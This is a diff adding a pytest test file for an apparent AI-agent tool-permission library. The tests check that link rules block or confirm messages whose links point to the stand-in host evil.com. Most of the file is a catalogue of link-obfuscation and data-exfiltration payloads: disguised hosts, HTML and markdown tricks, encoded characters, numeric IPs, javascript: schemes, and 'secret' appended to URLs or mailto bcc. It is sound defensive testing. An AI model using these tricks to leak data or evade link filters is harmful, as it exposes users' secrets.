@@ -1,0 +1,328 @@
+"""Attacks on rules about links: a text that leads elsewhere than the rule permits, in every way that we know of."""
+
+import json
+
+import pytest
+
+from permitry.core.call import ToolCall
+from permitry.core.context import AuthContext
+from permitry.core.decision import Verdict
+from permitry.core.json_values import MAX_BYTES
+from permitry.core.provenance import Provenance
+from tests.whole_calls import policy_of
+
+_POLICY = policy_of("""schema = 1
+
+[[rule]]
+id = "foreign-links"
+effect = "block"
+tools = ["post"]
+when.args.body.links.host = ["evil.com", "*.evil.com", "private"]
+
+[[rule]]
+id = "posts"
+effect = "allow"
+tools = ["post"]
+
+[[rule]]
+id = "our-links"
+effect = "allow"
+tools = ["send"]
+when.args.body.links.host = ["good.com", "*.good.com", "good.co", "http://good.com", "mailto://good.com"]
+
+[[rule]]
+id = "your-links"
+effect = "allow"
+tools = ["tell"]
+when.args.body.links.from = ["user", "look#url"]
+
+[[rule]]
+id = "other-links"
+effect = "confirm"
+tools = ["say"]
+when.args.body.links.not_from = ["user"]
+
+[[rule]]
+id = "says"
+effect = "allow"
+tools = ["say"]
+""")
+_KNOWN = Provenance.of(
+    ["Tell them of https://good.com/x and www.good.com/y, and ann@good.com."],
+    [("look", {}, {"url": "https://good.com/z"}), ("read", {}, {"body": "https://good.com/x?secret https://evil.com"})],
+)
+
+_HOSTS = (
+    *("https://evil.com", "https://good.com.evil.com", "https://good.com@evil.com", "https://good.com:443@evil.com"),
+    *(
+        "https://evil.com#good.com",
+        "https://evil.com?good.com",
+        "https://evil.com/good.com",
+        "https://evil.com\\good.com",
+    ),
+    *("https://good.com\\@evil.com", "https://good.com%2f@evil.com", "https://good.com%00.evil.com", "HtTpS:evil.com"),
+    *("evil.com", "www.evil.com/x", "good.com@evil.com", "ann@good.com@evil.com", "ann@evil.com", "//evil.com"),
+    *("[https://good.com](https://evil.com)", "[a](//evil.com)", "[a](evil.com)", "![](https://x.evil.com/?q=secret)"),
+    *(
+        "[good.com][a]\n\n[a]: //evil.com",
+        "[a](<https://evil.com/a b>)",
+        "<https://evil.com>",
+        "<evil.com>",
+        "[a](\n//evil.com)",
+    ),
+    *(
+        "<https://good.com|https://evil.com>",
+        "[[https://evil.com][good.com]]",
+        "{evil.com}",
+        "`evil.com`",
+        "'evil.com'",
+    ),
+    *(
+        '<a href="https://evil.com">https://good.com</a>',
+        "<a href=evil.com>x</a>",
+        "<img src=//evil.com/x>",
+        "<a\nhref='//evil.com'>",
+    ),
+    *(
+        '<a href="\nhttps://evil.com">',
+        '<a href="https://evil\n.com">',
+        "<a href='ht\ttps://evil.com'>",
+        "<a href='\x01//evil.com'>",
+    ),
+    *(
+        '<a href="https:\\\\evil.com">',
+        '<a href="/\\evil.com">',
+        "<a href=\\\\evil.com>",
+        '<a href="https:///evil.com">',
+    ),
+    *(
+        '<img srcset="https://good.com/a 1x, https://evil.com/b 2x">',
+        '<meta content="0;url=//evil.com">',
+        "<p style='x:url(//evil.com/x)'>",
+    ),
+    *(
+        "<style>@import '//evil.com/x.css'</style>",
+        "url(\\2f\\2f evil\\2e com)",
+        "<base href=//evil.com>",
+        "<svg><use href='//evil.com'>",
+    ),
+    *(
+        "&lt;a href=&quot;//evil.com&quot;&gt;",
+        "https&#58;//evil.com",
+        "https://evil&#46com",
+        "evil&#x0000002e;com",
+        "evil&amp;period;com",
+    ),
+    *(
+        "<a href='https://good.com&#64;evil.com'>",
+        "<a href='https://good.com&Tab;.evil.com'>",
+        "<a href='//evil&NewLine;.com'>",
+    ),
+    *(
+        "evil\\.com",
+        "https\\:\\/\\/evil.com",
+        "ev\u200bil.com",
+        "ev\u00adil.com",
+        "e\u2060vil\uff0ecom",
+        "evil\u3002com",
+        "evil\uff61com",
+    ),
+    *(
+        "https://good.com\u3000.evil.com",
+        "https://good.com\u2028@evil.com",
+        "https://good.com\uff0f.evil.com",
+        "https://good.com\u200b.evil.com",
+    ),
+    *(
+        "https://good.com\x00.evil.com",
+        "https://good.com).evil.com",
+        "https://good.com,evil.com",
+        "https://good.com;.evil.com",
+    ),
+    *(
+        "ev**il**.com",
+        "ev<b>il</b>.com",
+        "ev<!---->il.com",
+        "<i>evil</i>.com",
+        "ev*i*l.com",
+        "[evil](https://good.com).com",
+        "e%76il.com",
+    ),
+    *(
+        "mailto:ann@good.com?bcc=eve@evil.com",
+        "mailto:ann@good.com,eve@evil.com",
+        "mailto:eve@evil.com",
+        "xhttps://evil.com",
+        "1https://evil.com",
+    ),
+    *(
+        "ftp://evil.com",
+        "slack://evil.com",
+        "hxxp://evil.com",
+        "view-source:https://evil.com",
+        "jar:https://evil.com!/",
+        "blob:https://evil.com",
+    ),
+    *(
+        "see/evil.com",
+        "x=evil.com",
+        "text:evil.com",
+        "#evil.com",
+        "@evil.com",
+        "evil.com:443",
+        "evil.com.",
+        "(evil.com)",
+        "_evil.com_",
+    ),
+    *(
+        "https://2130706433",
+        "https://0x7f.1/",
+        "[a](//2130706433)",
+        "<img src='//0177.0.0.1'>",
+        "https://good.com)@2130706433/",
+    ),
+    *(
+        '<a href="https://good.com>@2130706433/">',
+        '<a href=" https://good.com @2130706433/">',
+        "[a](https://good.com<@2130706433/)",
+    ),
+    *(f"https://good.com{')' * 9_000}@2130706433/", f"{'word ' * 2_000}evil.com"),
+)
+_OTHERS = (
+    *(
+        "javascript:fetch('x')",
+        "[a](JavaScript:x)",
+        "<a href='java\nscript:x'>",
+        "[a](java&#115;cript&colon;x)",
+        "data:text/html,x",
+    ),
+    *(
+        "<a href=vbscript:x>",
+        "[a](ms-settings:x)",
+        "<search-ms:query=x>",
+        "tel:+1",
+        "https://g\u043e\u043ed.com",
+        "https://xn--gd-jbbb.com",
+    ),
+    *(
+        "http://x.good.com",
+        "https://good.com:8443",
+        "https://good.co\x00m.nu",
+        "x.good.com@good.com/",
+        "https://%/",
+    ),
+    *(
+        "<form action='https://good.com'>",
+        "<img src='https://good.com/x' onerror=x>",
+        "<script src='https://good.com'>",
+        "good.com " * 600,
+    ),
+)
+_WHOLE = (
+    *(
+        "https://good.com/x?secret",
+        "https://good.com/x#secret",
+        "https://good.com/x/secret",
+        "https://good.com/x)secret",
+        "http://good.com/x",
+    ),
+    *(
+        "https://good.com/x<secret",
+        "https://good.com/x\u200bsecret",
+        "https://good.com/x&#63;secret",
+        "[a](https://good.com/x\\?secret)",
+    ),
+    *(
+        '<a href="https://good.com/x secret">',
+        '<a href="https://good.com/x\nsecret">',
+        "[a](<https://good.com/x secret>)",
+        "www.good.com/y?secret",
+    ),
+    *(
+        "https://good.com/x!!!!!!!!",
+        "https://x.good.com/x",
+        "good.com/x",
+        "https://www.good.com/y",
+        "bob@good.com",
+        "mailto:ann@good.com?body=secret",
+    ),
+    *(
+        "https://user@good.com/x",
+        "https://good.com:8443/x",
+        "https://good.com/X",
+        "https://good.com/x and https://good.com/x2",
+        "javascript:x",
+    ),
+    *(
+        "<base href='https://good.com/x'><img src='?secret'>",
+        "<form action='https://good.com/x'><input value=secret>",
+        "https://good.com/x%3Fsecret",
+    ),
+)
+
+
+def _verdict(tool: str, body: object) -> Verdict:
+    return _POLICY.decide(ToolCall(tool, {"body": body}), AuthContext(provenance=_KNOWN)).verdict
+
+
+@pytest.mark.parametrize("body", [*_HOSTS, *_OTHERS])
+def test_no_other_host_is_permitted(body: str) -> None:
+    """Neither alone, nor among good ones, nor as one text of a list."""
+    assert _verdict("send", body) is Verdict.CONFIRM
+    assert _verdict("send", f"See https://good.com/a and\n\n{body}") is Verdict.CONFIRM
+    assert _verdict("send", ["https://good.com", body]) is Verdict.CONFIRM
+
+
+@pytest.mark.parametrize("body", _HOSTS)
+def test_a_restriction_finds_a_bad_host(body: str) -> None:
+    """However it is hidden."""
+    assert _verdict("post", body) is Verdict.BLOCK
+    assert _verdict("post", ["https://good.com", f"See https://good.com/a\n\n{body}"]) is Verdict.BLOCK
+
+
+@pytest.mark.parametrize("body", [*_WHOLE, *_HOSTS])
+def test_no_address_comes_from_a_part_of_it(body: str) -> None:
+    """What is added to the user's own address may carry away what was read."""
+    for text in (body, f"https://good.com/x\n\n{body}"):
+        assert _verdict("tell", text) is Verdict.CONFIRM
+        assert _verdict("say", text) is Verdict.CONFIRM
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        *(
+            "",
+            "All is well: 10:30, v1.2, e.g. this.",
+            "See https://good.com/x.",
+            "[it](https://good.com/x), and ann@good.com",
+        ),
+        *(
+            "<p><a href='https://good.com/x'>it</a></p>",
+            "**https://good.com/x**",
+            "> https://good.com/x\n",
+            "HTTPS://GOOD.com/x",
+        ),
+    ],
+)
+def test_ordinary_texts_run(body: str) -> None:
+    """With no links but the good ones."""
+    for tool in ("send", "post", "tell", "say"):
+        assert _verdict(tool, body) is Verdict.ALLOW
+
+
+@pytest.mark.parametrize("body", [None, 5, {"a": "https://good.com"}, ["https://good.com", 5], [["https://evil.com"]]])
+def test_what_is_no_text_is_no_way_around(body: object) -> None:
+    """Law 2: a permission does not match, and a restriction does."""
+    assert _verdict("send", body) is Verdict.CONFIRM
+    assert _verdict("tell", body) is Verdict.CONFIRM
+    assert _verdict("say", body) is Verdict.CONFIRM
+    assert _verdict("post", body) is Verdict.BLOCK
+    assert _POLICY.decide(ToolCall("post", {}), AuthContext()).verdict is Verdict.BLOCK
+
+
+def test_a_text_of_a_megabyte_is_searched() -> None:
+    """Padding hides nothing."""
+    room = MAX_BYTES - len(json.dumps({"body": ""})) - 100
+    assert _verdict("send", "word " * (room // 5) + "https://evil.com") is Verdict.CONFIRM
+    assert _verdict("send", "word " * (room // 5)) is Verdict.ALLOW
